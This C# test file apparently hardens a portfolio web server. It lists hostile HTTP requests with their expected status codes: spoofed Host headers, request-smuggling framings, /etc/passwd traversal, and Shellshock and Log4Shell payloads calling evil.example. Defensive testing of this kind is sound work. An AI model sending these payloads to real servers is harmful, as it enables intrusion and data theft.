namespace Portfolio.Web.Tests.Hostile;

internal static partial class HostileRequests
{
    /// <summary>
    /// Requests with header fields of proxies and frameworks, and requests with too many, too long or malformed fields.
    /// </summary>
    private const string Fields = """
        200 | GET /blogs | X-Forwarded-Host: evil.example
        200 | GET /blogs | X-Forwarded-Proto: javascript
        200 | GET /blogs | X-Forwarded-Prefix: //evil.example
        200 | GET /blogs | X-Forwarded-For: 1.2.3.4, <script>
        200 | GET /search?q=a | X-Forwarded-For: {500×1.2.3.4, }
        200 | GET /search?q=a | X-Forwarded-For: ::::::
        200 | GET /blogs | Forwarded: for=1.2.3.4;host=evil.example;proto=https
        200 | GET /blogs | X-Original-URL: /.env
        200 | GET /blogs | X-Rewrite-URL: /.env
        200 | GET /blogs | X-HTTP-Method-Override: DELETE
        200 | GET /blogs | X-Host: evil.example
        301 | GET /blogs/ | X-Forwarded-Host: evil.example
        301 | GET /blogs/ | Host: evil.example
        301 | GET /blogs/old | Host: evil.example
        200 | GET /feed.xml | Host: evil.example
        200 | GET /sitemap.xml | Host: evil.example
        200 | GET /blogs | Host: 1.2.3.4:80
        200 | GET /blogs | Host: [::1]:80
        400! | GET /blogs | Host: [
        400! | GET /blogs | Host: []
        400! | GET /blogs | Host: [::1
        400! | GET /blogs | Host: a:b
        400! | GET /blogs | Host: a:
        400! | GET /blogs | Host: a b
        400! | GET /blogs | Host: a,b
        400! | GET /blogs | Host: a/b
        400! | GET /blogs | Host: user@a
        400! | GET /blogs | Host: <script>
        400! | GET /blogs | Host: a?b
        400! | GET /blogs | Host: a#b
        400! | GET /blogs | Host: a\b
        400! | GET /blogs | Host: \xff
        400! | GET /blogs | Host: a | Host: b
        400! | GET /blogs | Host: a | Host: a
        200 | GET /blogs | Host:
        200 | GET /blogs | Cookie: {4000×a}
        200 | GET /blogs | User-Agent: () { :;}; /bin/id
        200 | GET /blogs | User-Agent: ${jndi:ldap://evil.example/a}
        200 | GET /blogs | Referer: javascript:alert(1)
        200 | GET /blogs | Authorization: Basic ///////
        404 | GET /health | Authorization: Bearer
        404 | GET /health | Authorization: Bearer x
        404 | GET /health | Authorization: Bearer {5000×x}
        200 | GET /blogs | Accept: {1000×text/markdown;q=0.1,}
        200 | GET /blogs | Accept: ;;;;
        200 | GET /blogs | Accept: text/markdown;q=9
        200 | GET /blogs | Accept: text/markdown;q=-1
        400! | GET /blogs | Accept: \xff\xfe
        200 | GET /blogs | Accept: {2000×*}
        200 | GET /blogs | Accept-Encoding: {2000×gzip,}
        200 | GET /blogs | Accept-Encoding: gzip;q=nan
        200 | GET /blogs | Accept-Encoding: *;q=0
        200 | GET /blogs | Accept-Encoding: identity;q=0, *;q=0
        200 | GET /blogs | Accept-Encoding: gzip;q=1e9
        200 | GET /blogs | If-None-Match: "
        200 | GET /blogs | If-None-Match: W/
        200 | GET /blogs | If-None-Match: {3000×"a",}
        304 | GET /blogs | If-None-Match: *
        400! | GET /blogs | If-None-Match: \xff
        200 | GET /blogs | If-Modified-Since: Thu, 99 Foo 9999
        200 | GET /blogs | If-Match: "nothing"
        200 | GET /blogs | Range: bytes=0-0
        200 | GET /blogs | Range: bytes={500×0-0,}
        200 | GET /film.mp4 | Range: items=0-1
        206 | GET /film.mp4 | Range: bytes=0-0
        206 | GET /film.mp4 | Range: bytes=-1
        416 | GET /film.mp4 | Range: bytes=9999999-
        416 | GET /film.mp4 | Range: bytes=99999999999999-
        200 | GET /film.mp4 | Range: bytes=99999999999999999999-
        200 | GET /film.mp4 | Range: bytes={200×0-1,}0-1
        200 | GET /film.mp4 | Range: bytes=2-1
        200 | GET /film.mp4 | Range: bytes=--1
        200 | GET /film.mp4 | Range: bytes=a-b
        200 | GET /blogs | Content-Type: {1000×a}
        200 | GET /blogs | Connection: Host
        200 | GET /blogs | Connection: upgrade | Upgrade: websocket
        200 | GET /blogs | Connection: Upgrade, HTTP2-Settings | Upgrade: h2c | HTTP2-Settings: AAMAAABkAAQAAP__
        200! | GET /blogs | Expect: x
        200! | GET /blogs | Expect: 100-continue
        200 | GET /blogs | TE: trailers
        200 | GET /blogs | Trailer: Host
        200 | GET /blogs | Max-Forwards: -1
        200 | GET /blogs | Via: {500×1.1 a, }
        200 | GET /blogs | Origin: null
        200 | GET /blogs | Sec-Fetch-Site: cross-site
        200 | GET /blogs | traceparent: 00-{32×f}-{16×f}-ff
        200 | GET /blogs | traceparent: {500×-}
        200 | GET /blogs | tracestate: {500×a=b,}
        200 | GET /blogs | baggage: {500×a=b,}
        400! | GET /blogs | Request-Id: \xff
        200 | GET /blogs | X-a: \t
        400! | GET /blogs | X-a: \xff
        200 | GET /blogs | X-a: {30000×b}
        431! | GET /blogs | X-a: {33000×b}
        431! | GET /blogs | {100×X-a: b\r\n}X-b: c
        400! | GET /blogs | X-a: b\x00c
        400! | GET /blogs | X-a: b\rc
        400! | GET /blogs | X-a\x00: b
        400! | GET /blogs | X a: b
        400! | GET /blogs | X-a : b
        400! | GET /blogs |  X-a: b
        400! | GET /blogs | X-a: b\r\n folded
        400! | GET /blogs | X-a: b\r\n\tfolded
        400! | GET /blogs | : b
        400! | GET /blogs | X-a
        200 | GET /blogs | (x): b
        400! | GET /blogs | X-\xff: b
        200 | GET /blogs | "X": b
        400! | GET /blogs | Host : a
        """;

    /// <summary>
    /// Requests with line ends, lengths and bodies for which two servers may disagree about the end of the request.
    /// </summary>
    private const string Framing = """
        400! | RAW GET /blogs HTTP/1.1\rHost: a\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\rContent-Length: 38\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\rX: y\r\n\r\n
        200 200 | RAW GET /blogs HTTP/1.1\nHost: a\n\n
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\nX: y\r\n\r\n
        200 200 | RAW GET /blogs HTTP/1.1\nHost: a\r\n\n
        400! | RAW GET /blogs HTTP/1.1\r\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\x00\r\nHost: a\r\n\r\n
        200 200 | RAW GET /blogs  HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET  /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1 \r\nHost: a\r\n\r\n
        400! | RAW GET\t/blogs\tHTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW  GET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW \x00GET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW \xef\xbb\xbfGET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        200 200 | RAW \r\nGET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        200 200 | RAW \r\n\r\n\r\nGET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs x HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /\xff HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /\xc3\xa9 HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs?\xff HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /\x00 HTTP/1.1\r\nHost: a\r\n\r\n
        404 200 | RAW GET /\x7f HTTP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs\r\n\r\n
        505! | RAW GET /blogs HTTP/0.9\r\n\r\n
        505! | RAW GET /blogs HTTP/1.2\r\nHost: a\r\n\r\n
        505! | RAW GET /blogs HTTP/2.0\r\nHost: a\r\n\r\n
        505! | RAW GET /blogs HTTP/9.9\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs HTTP/1.10\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs HTTP/01.1\r\nHost: a\r\n\r\n
        505! | RAW GET /blogs http/1.1\r\nHost: a\r\n\r\n
        505! | RAW GET /blogs HTTP/1,1\r\nHost: a\r\n\r\n
        505! | RAW GET /blogs HTPP/1.1\r\nHost: a\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\n\r\n
        200! | RAW GET /blogs HTTP/1.0\r\n\r\n
        200! | RAW GET /blogs HTTP/1.0\r\nHost: a\r\n\r\n
        not-http! | RAW PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n
        400! | RAW \x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n
        400! | RAW {100×\xff}\r\n\r\n
        400! | RAW EHLO evil.example\r\n
        400! | RAW *1\r\n$4\r\nPING\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: +1\r\n\r\nx
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 1x\r\n\r\nx
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 0x1\r\n\r\nx
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 1 1\r\n\r\nx
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 1,1\r\n\r\nx
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length:\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\nx
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nGET /
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 38\r\n\r\nGET /blogs/post HTTP/1.1\r\nHost: a\r\n\r\n\r
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nGET /\r\n0\r\n\r\n
        200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;ext=1\r\nGET /\r\n0\r\nX: y\r\n\r\n
        200! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n
        200! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: identity\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: x\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n
        400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n
        400! | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nxyz\r\n0\r\n\r\n
        400! | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n0\r\n\r\n
        400! | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n0\r\n\r\n
        413! | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 65537\r\n\r\n
        413! | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 9999999999\r\n\r\n
        200 200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\n\r\nGET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        200 404 200 200 | RAW GET /blogs HTTP/1.1\r\nHost: a\r\n\r\nGET /no HTTP/1.1\r\nHost: a\r\n\r\nGET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        200 400! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\n\r\nGARBAGE\r\n\r\n
        200! | RAW GET /blogs HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\nGET /blogs HTTP/1.1\r\nHost: a\r\n\r\n
        """;

    private const string Methods = """
        405 | POST /
        405 | POST /blogs
        405 | PUT /blogs
        405 | DELETE /blogs
        405 | PATCH /blogs
        405 | OPTIONS /blogs
        405 | TRACE /blogs
        405 | CONNECT /blogs
        405 | PROPFIND /
        405 | MKCOL /x
        405 | PURGE /blogs
        405 | DEBUG /
        405 | FOO /blogs
        200 | get /blogs | Host: a
        200 | Get /blogs
        400! | GET\x2fHTTP /blogs
        405 | {300×A} /blogs
        400! | GE\x00T /blogs
        400! | G(ET /blogs
        405 | POST /blogs/post
        405 | POST /blogs/post.md
        405 | POST /feed.xml
        405 | POST /sitemap.xml
        405 | POST /film.mp4
        405 | PUT /film.mp4
        405 | POST /media/0123456789abcdef/x.svg
        405 | POST /search
        405 | POST /search.json
        405 | POST /health/live
        405 | POST /health/ready
        405 | DELETE /health/ready
        405 | POST /health
        405 | POST /robots.txt
        405 | POST /.well-known/api-catalog
        405 | POST /nothing
        405 | POST /nothing/at/all.txt
        404 | POST /blogs%2f
        404 | POST /../etc/passwd
        404 | DELETE /%2e%2e/x
        405 | PUT /mcp
        405 | PATCH /mcp
        405 | OPTIONS /mcp
        405 | GET /mcp
        405 | DELETE /mcp
        405 | HEAD /mcp
        415 | POST /mcp/
        405 | POST /MCP/x
        """;

    private const string Mcp = """
        415 | POST /mcp
        415 | POST /mcp | Content-Type: text/plain
        415 | POST /mcp | Content-Type: application/x-www-form-urlencoded
        406 | POST /mcp | Content-Type: application/json; charset=foo
        406 | POST /mcp | Content-Type: application/json; charset="utf-8
        204 | OPTIONS /mcp | Origin: http://localhost/\xc3\xa9
        403 | POST /mcp | Origin: https://evil.example | Content-Type: application/json
        403 | POST /mcp | Origin: null | Content-Type: application/json
        400 | POST /mcp | Accept: application/json, text/event-stream | Content-Type: application/json
        400 200 | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}
        400 200 | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n[]
        400 200 | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 4\r\n\r\nnull
        400 200 | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 4\r\n\r\n\xff\xff\xff\xff
        400 200 | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{10000×[}
        400 200 | RAW POST /mcp HTTP/1.1\r\nHost: a\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nContent-Length: 3\r\n\r\n{"a
        """;
}
